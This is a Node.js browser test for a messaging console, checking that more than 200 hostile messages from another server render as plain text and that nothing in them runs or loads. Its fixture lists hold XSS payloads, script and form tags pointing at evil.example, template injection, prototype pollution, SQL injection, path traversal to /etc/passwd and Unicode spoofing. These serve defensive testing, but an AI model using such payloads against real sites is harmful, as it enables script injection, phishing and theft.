#!/usr/bin/env node
// SPDX-License-Identifier: Apache-2.0
// Two hundred messages that mean harm, from the other desk: every page shows them as text, nothing of them runs, nothing
// is fetched for them, and the page stays whole and quick. What must never happen is watched in browser.mjs.
import { Console, launch } from './browser.mjs';
import { LIMITS, openChannel, play, until } from './desks.mjs';

/** The member of the global object that a script of theirs would set. */
const TRACE = 'aldisWasHere';
const RUN = `window.${TRACE}=1`;

// Each text, and what of it a reader must see: the text itself where nothing is given.
const html = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"><circle r=9></svg>`,
  `"><script src="https://evil.example/x.js"></script>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<a href="javascript:${RUN}">a link</a>`,
  `</textarea></script></style></title><img src=//evil.example/i.png>`,
  `<style>*{display:none}</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://evil.example">`,
  `<base href="https://evil.example/">`,
  `<form action=https://evil.example><input name=code><button>Log in</button></form>`,
  `<math><mtext></p><![CDATA[<b onmouseover=${RUN}>x</b>]]>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<object data="data:text/html;base64,PHNjcmlwdD4=">x</object>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<dialog open>Your session has ended</dialog>`,
  `&lt;b&gt; &amp;amp; &#x3c;script&#x3e; &nbsp;`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:x file:///etc/passwd \\\\evil.example\\share`,
  `https://evil.example/?q=1 http://user:pass@evil.example//`,
];
const templates = [
  `{{constructor.constructor("${RUN}")()}}`,
  '${alert(1)} #{7*7} <%= 7*7 %> {%raw%} [[x]]',
  '{name} {n} {count} {time} {id} {who}',
  '[click](javascript:alert(1)) ![i](https://evil.example/i.png) **bold** `code` # head',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"polluted":true}}',
  "'; DROP TABLE meta; --",
  '=HYPERLINK("https://evil.example")',
  '%s%n%x %00 %0d%0aSet-Cookie:x=1',
  '../../../../etc/passwd',
  'null undefined NaN true [object Object]',
  '99999999999999999999999999999999999999 1e999 -0 0x7fffffff',
];
const unseen = [
  ['Account \u202egpj.exe\u202c end', 'U+202E'],
  ['\u2067right\u2069 \u2066left\u2069 \u2068first', 'U+2067'],
  ['\u202bEnglish in a right-to-left embedding', 'U+202B'],
  ['pay\u200bpal \ufeffzero\u2060width', 'U+200B'],
  ['soft\u00adhy\u00adphen', 'U+00AD'],
  ['tags \u{e0001}\u{e0041}\u{e0042}\u{e007f} alone', 'U+E0041'],
  ['line\u2028separator\u2029paragraph', 'U+2028'],
  ['bell\u0007 escape\u001b[31mred\u001b[0m back\u0008space', 'U+001B'],
  ['delete\u007f next line\u0085 c1\u009b31m', 'U+009B'],
  ['hangul\u3164filler \u115f\u1160 \uffa0', 'U+3164'],
  ['interlinear \ufff9base\ufffaover\ufffb', 'U+FFF9'],
  ['mark \u200e\u200f\u061c of direction', 'U+061C'],
  [`Zalgo ${'e\u0301\u0316\u0335'.repeat(60)}`, 'Zalgo'],
  [`h${'\u0300'.repeat(150)} one letter with many marks`, 'one letter with many marks'],
  ['\u{1f468}\u200d\u{1f469}\u200d\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} family and flag', 'family and flag'],
  ['\u0645\u0631\u062d\u0628\u0627 abc \u05e9\u05dc\u05d5\u05dd 123', '\u0645\u0631\u062d\u0628\u0627'],
  ['\ufdfd\ufdfd\ufdfd \u{12031}\u{12031} wide signs', 'wide signs'],
];
const TEXTS = [...html, ...templates].map((text) => [text, text]).concat(unseen);
const cut = (text, most) => [...text].slice(0, most).join('');

const T = '2026-11-20T23:49:00Z';
const HASH = 'ab'.repeat(32);
/** Ways to bring a text onto as many pages as there are. */
const kinds = [
  (text) => ({ kind: 'text', body: { language: 'id', subject: cut(text, 200), text } }),
  (text) => ({
    kind: 'incident', tlp: 'RED', re: undefined,
    body: { language: 'id', title: cut(text, 200), summary: text, detected: T, sectors: [cut(text, 100)], services: [cut(text, 200)],
      observables: [{ type: 'other', value: cut(text, 2000), note: cut(text, 500) }], action_requested: text, reference: cut(text, 200) },
  }),
  (text) => ({ kind: 'pledge.offer', body: { language: 'id', title: cut(text, 200), text, translations: [{ language: 'en', text }] } }),
  (text) => ({ kind: 'query', body: { language: 'id', subject: cut(text, 200), question: text } }),
];
const others = [
  (text) => ({ kind: 'assessment', body: { language: 'id', title: cut(text, 200), text, basis: text } }),
  (text) => ({ kind: 'statement', body: { language: 'id', title: cut(text, 200), text, translations: [{ language: 'ar', text }] } }),
  (text) => ({ kind: 'evidence.commit', body: { hash: HASH, language: 'id', description: text } }),
  (text) => ({ kind: 'consultation.request', body: { language: 'id', subject: cut(text, 200), agenda: [cut(text, 1000)], means: cut(text, 200) } }),
  (text) => ({ kind: 'roster', body: { language: 'id', authority: cut(text, 200), roles: [{ role: cut(text, 100), hours: cut(text, 200), languages: ['id'], name: cut(text, 200), contact: cut(text, 500) }] } }),
  (text) => ({ kind: 'measure', body: { measure: 'other', language: 'id', text } }),
];
/** What is too much of something. */
const floods = [
  ['a word without end', 'W'.repeat(20_000)],
  ['256 KiB of another script', '\u4e16\u754c'.repeat(42_000)],
  ['as many lines as go in', 'x\n'.repeat(49_000)],
  ['a flood of marks', 'a\u0301\u0302\u0303'.repeat(24_000)],
  ['a flood of what is hidden', '\u202e\u200b'.repeat(20_000)],
  ['directions in directions', '\u2067a\u2066b'.repeat(10_000)],
  ['emoji', '\u{1f525}'.repeat(50_000)],
  ['tags in tags', '<b><i>'.repeat(16_000)],
];

/** Files that look like something that runs. */
const files = [
  ['pwn.svg', `<svg xmlns="http://www.w3.org/2000/svg" onload="${RUN}"><script>${RUN}</script></svg>`],
  ['index.html', `<script>${RUN}</script>`],
];

const MEAN = `<img src=x onerror=${RUN}> \u202egnp.exe`;
/** An advisory of our own. */
const advisory = (id, title) => ({
  document: {
    category: 'csaf_base', csaf_version: '2.0', ...(title && { title }),
    publisher: { category: 'vendor', name: 'N', namespace: 'https://example.org' },
    distribution: { tlp: { label: 'AMBER' } },
    tracking: { id, current_release_date: T, initial_release_date: T, status: 'final', version: '1',
      revision_history: [{ date: T, number: '1', summary: 'First' }] },
  },
});

/** Attached advisories: one as it should be, one that means harm, one that breaks its schema. */
async function sendAdvisories(south, channel) {
  const attachments = [];
  for (const one of [advisory('EX-2026-1', 'A hole in the register of voters'), advisory(MEAN, MEAN), advisory('EX-2026-2')])
    attachments.push(await south.upload(channel, JSON.stringify(one)));
  return south.say(channel, { kind: 'text', body: { language: 'id', text: 'Three advisories', subject: 'Files' }, attachments });
}

async function advisories(tap, one, channel, id) {
  await show(one, messagePath(channel, id));
  const all = one.page.locator('.attachments .advisory');
  await all.nth(2).waitFor();
  const said = await all.allInnerTexts();
  tap.ok(said[0].includes(one.word('message.advisory')) && said[0].includes('TLP:AMBER') && said[0].includes('EX-2026-1')
    && said[0].includes('A hole in the register of voters'), `an attached advisory says what it is: ${said[0]}`);
  tap.ok(said[1].includes(`<img src=x onerror=${RUN}> U+202Egnp.exe`), 'one that means harm is text');
  tap.ok(said[2].includes(one.word('message.advisory.broken')) && said[2].includes('document.title is missing'),
    `one that breaks its schema says where: ${said[2]}`);
  await harmless(tap, one, 'the message with advisories');
  await one.look('a message with advisories');
}

async function attack(tap, south, channel) {
  const messages = TEXTS.flatMap(([text], i) => [...kinds.map((kind) => kind(text)), ...(i % 6 === 0 ? others.map((kind) => kind(text)) : [])]);
  messages.push(...floods.map(([, text]) => ({ kind: 'text', body: { language: 'id', subject: 'A flood', text } })));
  messages.push({ kind: 'incident', body: { language: 'id', title: 'Long lists', summary: 'x', detected: T, affected_systems: 1000000000,
    observables: Array.from({ length: 500 }, (_, i) => ({ type: 'other', value: `${'v'.repeat(200)}${i}` })) } });
  messages.push({ kind: 'record.statement', body: { from: T, to: T, entries: 9007199254740991, logs: [{ desk: 'south.example', size: 9007199254740991, root: 'A'.repeat(43) + '=' }] } });
  const sent = [];
  for (const message of messages) sent.push(await south.say(channel, message));
  for (const [name, content] of files) {
    const put = await south.upload(channel, content);
    sent.push(await south.say(channel, { kind: 'text', body: { language: 'id', text: `Attached ${name}`, subject: 'A file' }, attachments: [put] }));
  }
  tap.ok(sent.length >= 200, `the other desk sends ${sent.length} messages`);
  return { sent, messages };
}

/** What of theirs became part of the page. */
const alive = (one) =>
  one.page.evaluate((trace) => {
    const found = [];
    if (trace in window || 'polluted' in {}) found.push('a script of theirs ran');
    const main = document.querySelector('main') ?? document.body;
    for (const one of main.querySelectorAll('script, iframe, object, embed, style, link, meta, base, img, video, audio, marquee, math, template'))
      found.push(one.outerHTML.slice(0, 100));
    for (const one of document.querySelectorAll('body *'))
      for (const { name, value } of one.attributes)
        if (/^on/i.test(name) || (/^(href|src|action|formaction)$/i.test(name) && !/^(\/(?!\/)|#|blob:)/.test(value))) found.push(`${name}="${value.slice(0, 80)}"`);
    return found.slice(0, 5).join(' ');
  }, TRACE);

async function harmless(tap, one, what, faults) {
  const found = [await alive(one), await one.sticksOut()].filter(Boolean).join('; ');
  if (faults) {
    if (found) faults.push(`${what}: ${found}`);
  } else tap.ok(found === '', `${what}: text only, and whole ${found}`.trim());
}

/** Goes there without loading the console anew. */
const show = (one, where) =>
  one.page.evaluate((to) => {
    history.pushState(null, '', to);
    dispatchEvent(new PopStateEvent('popstate', { state: null }));
  }, where);

async function lists(tap, one, channel) {
  await one.goto('/');
  await one.section('now.unread').waitFor();
  await harmless(tap, one, 'Now');
  await one.goto(`/channels/${channel}?all=1`);
  const list = one.page.locator('.message-list .virtual');
  await list.locator('[data-row] a.title, [data-row] .title').first().waitFor();
  const faults = [];
  for (let at = 0; at <= 1; at += 0.1) {
    await list.evaluate((box, part) => (box.scrollTop = part * (box.scrollHeight - box.clientHeight)), at);
    await until(() => list.locator('.coming').count().then((n) => n === 0), 20, 'the rows are here');
    await harmless(tap, one, `row ${Math.round(at * 100)} %`, faults);
  }
  tap.ok(faults.length === 0, `the channel, all the way: text only, and whole ${faults[0] ?? ''}`.trim());
  const heights = await list.locator('[data-row]').evaluateAll((rows) => rows.map((row) => row.getBoundingClientRect().height));
  tap.ok(heights.every((height) => height <= 33), 'no row is higher than the others');
  await one.goto('/incidents');
  await one.page.getByText('Long lists').first().waitFor();
  await harmless(tap, one, 'Incidents');
  await one.goto('/pledges');
  await one.page.getByText('hasOwnProperty').first().waitFor();
  await harmless(tap, one, 'Pledges');
  await one.goto('/compose');
  await one.page.locator('[data-field="kind"] select').selectOption('text');
  await one.page.getByText(one.word('compose.re.optional'), { exact: true }).click();
  await one.page.locator('[data-field="re"] select option').nth(2).waitFor({ state: 'attached' });
  await harmless(tap, one, 'Compose, which lists what can be answered');
}

const messagePath = (channel, id) => `/channels/${channel}/messages/${id.replace('#', '/')}`;

async function pages(tap, one, channel, sent, messages) {
  await one.goto('/incidents');
  const faults = [];
  let looked = 0;
  for (const [i, message] of messages.entries()) {
    // Each text once as a report, which has the most fields; and of every other kind a few.
    const isChosen = message.kind === 'incident' || ![ 'text', 'query', 'pledge.offer'].includes(message.kind) || i % 12 === 0;
    if (!isChosen || message.body.subject === 'A flood') continue;
    await show(one, messagePath(channel, sent[i]));
    const id = one.page.locator('.facts-list').getByText(`#${sent[i].split('#')[1]}`, { exact: true });
    await id.first().waitFor();
    looked++;
    await harmless(tap, one, `${sent[i]} ${JSON.stringify(message).slice(0, 120)}`, faults);
    const expected = TEXTS.find(([text]) => Object.values(message.body).includes(text))?.[1];
    const said = await one.page.locator('main').innerText();
    const squeezed = (text) => text.replace(/\s+/g, ' ');
    if (expected && !squeezed(said).includes(squeezed(expected))) faults.push(`${sent[i]} ${message.kind}: ${expected} is not to be read`);
  }
  for (const fault of faults.slice(0, 20)) tap.note(fault);
  tap.ok(faults.length === 0, `${looked} messages opened: each shows what was sent, as text, and nothing else`);
}

async function flood(tap, one, channel, sent, messages) {
  await one.page.evaluate(() => {
    window.longest = 0;
    new PerformanceObserver((list) => list.getEntries().forEach(({ duration }) => (window.longest = Math.max(window.longest, duration)))).observe({ type: 'longtask' });
  });
  for (const [what, text] of floods) {
    const id = sent[messages.findIndex((message) => message.body.text === text)];
    await one.page.evaluate(() => (window.longest = 0));
    await show(one, messagePath(channel, id));
    await one.page.locator('.facts-list').getByText(`#${id.split('#')[1]}`, { exact: true }).first().waitFor();
    const all = one.page.getByRole('button', { name: new RegExp(`^${one.word('ui.show_all', { count: '' }).split(':')[0]}`) });
    if (await all.count()) await all.first().click();
    await one.page.evaluate(() => new Promise((done) => requestAnimationFrame(() => setTimeout(done))));
    const longest = await one.page.evaluate(() => window.longest);
    const wide = await one.sticksOut();
    tap.ok(!wide && longest < 2000, `${what}: the page stays whole and answers (longest task ${Math.round(longest)} ms) ${wide}`.trim());
  }
}

await play(async (tap) => {
  const north = await tap.desk('north.example');
  const south = await tap.desk('south.example', 'id');
  await Promise.all([north.ready(), south.ready()]);
  const title = `<img src=x onerror=${RUN}> Elections \u202e`;
  const channel = await openChannel(tap.folder, [north, south], { limits: LIMITS, lines: ['technical'], duties: [{ on: 'query', owe: ['answer'], within: 'PT24H' }] }, title)
  const maria = await north.person('maria', 'watch,officer,administrator', `<script>${RUN}</script> Maria`);
  const { sent, messages } = await attack(tap, south, channel);
  const files = await sendAdvisories(south, channel);
  const last = messagePath(channel, files).replace('/channels/', '/api/channels/');
  await until(async () => (await north.local('GET', last)).status === 200, 60, 'all have come to north');

  const browser = await launch(tap);
  const one = await Console.open(tap, browser, maria, { cookie: await maria.session() });
  await lists(tap, one, channel);
  await pages(tap, one, channel, sent, messages);
  await advisories(tap, one, channel, files);
  await flood(tap, one, channel, sent, messages);
});
